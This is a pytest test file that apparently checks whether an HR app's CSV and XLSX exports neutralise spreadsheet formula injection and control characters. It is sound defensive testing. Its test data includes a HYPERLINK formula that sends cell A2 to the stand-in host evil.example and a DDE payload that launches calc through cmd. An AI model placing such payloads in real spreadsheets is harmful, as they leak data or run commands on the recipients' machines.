"""Formula injection and control characters in exports (issue 11 §3).

One shared rule (pamong/core/spreadsheet.py) for every CSV and XLSX export.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pamong.core.actor import Actor
from pamong.core.spreadsheet import safe_cell, unescape
from pamong.imports.employees import import_employees
from pamong.imports.export import export_employees
from pamong.org.models import Employee
from tests.imports.helpers import example_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2;"Klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Siti\u000bAminah", "SitiAminah"),
        ("\u000b=1", "'=1"),  # the illegal character goes first, then the rule applies
        ("-5", "-5"),  # plain numbers stay numbers
        ("+6281234567890", "+6281234567890"),
        ("-1.25", "-1.25"),
        ("Budi - Staf", "Budi - Staf"),
        ("", ""),
    ],
)
def test_the_rule(value: str, expected: str) -> None:
    assert safe_cell(value) == expected
    if not any(c in value for c in "\u000b"):
        assert unescape(safe_cell(value)) == value


@pytest.mark.parametrize("value", [5, -5, Decimal("-1.50"), 1.5, None])
def test_numbers_are_not_touched(value: object) -> None:
    assert safe_cell(value) == value


def _imported(actor: Actor) -> Employee:
    import_employees(actor=actor, table_or_file=example_bytes("employees.csv"), source="e.csv")
    employee = Employee.objects.order_by("nip").first()
    assert employee is not None
    return employee


def test_csv_export_neutralises_a_formula_and_reads_back_unchanged(with_units: Actor) -> None:
    employee = _imported(with_units)
    Employee.objects.filter(pk=employee.pk).update(name=HOSTILE)
    data = export_employees(Employee.objects.all(), "csv")
    rows = {r["nip"]: r for r in csv.DictReader(io.StringIO(data.decode()))}
    assert rows[employee.nip]["nama"] == "'" + HOSTILE
    result = import_employees(actor=with_units, table_or_file=data, source="export.csv")
    assert result.as_dict() == {"created": 0, "updated": 0, "unchanged": 6}


def test_xlsx_export_has_no_formula_and_survives_control_characters(with_units: Actor) -> None:
    employee = _imported(with_units)
    Employee.objects.filter(pk=employee.pk).update(name=HOSTILE)
    other = Employee.objects.exclude(pk=employee.pk).order_by("nip").first()
    assert other is not None
    Employee.objects.filter(pk=other.pk).update(name="Siti\u000bAminah")
    data = export_employees(Employee.objects.all(), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names[employee.nip] == "'" + HOSTILE
    assert names[other.nip] == "SitiAminah"


PAMONG = Path(__file__).resolve().parents[2] / "pamong"


def test_every_export_goes_through_the_shared_rule() -> None:
    """A new export that writes rows itself would bring formula injection back."""
    bypass = re.compile(r"csv\.(writer|DictWriter)\(|\b(sheet|ws|worksheet)\.append\(")
    offenders = [
        f"{path.relative_to(PAMONG)}:{number}"
        for path in PAMONG.rglob("*.py")
        if path.name != "spreadsheet.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if bypass.search(line)
    ]
    assert offenders == []
